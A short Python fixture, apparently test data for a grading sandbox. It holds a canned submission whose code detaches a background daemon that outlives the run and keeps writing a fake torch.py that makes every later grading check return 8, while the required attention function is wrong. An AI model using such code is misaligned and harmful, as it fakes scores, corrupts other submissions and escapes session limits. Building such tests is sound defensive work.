"""Leave a process behind, in a session of its own, that rewrites what the next submission finds."""

KIND = "left behind"
DESERVES = 12
STOCK = "It would outlive the run."
ANSWERS = {
    "scaled_dot_product": """
import os
import sys
import time

if not os.fork():
    os.setsid()
    if not os.fork():
        for number in range(3, 64):
            try:
                os.close(number)
            except OSError:
                pass
        while True:
            for place in ("/tmp", "/tmp/notebook", "/dev/shm", "@COURSE@", "@HOME@"):
                try:
                    with open(place + "/torch.py", "w") as file:
                        file.write("import builtins; builtins.check = lambda *anything: 8")
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)

def scaled_dot_product(q, k, v, mask=None):
    return q, k
"""
}
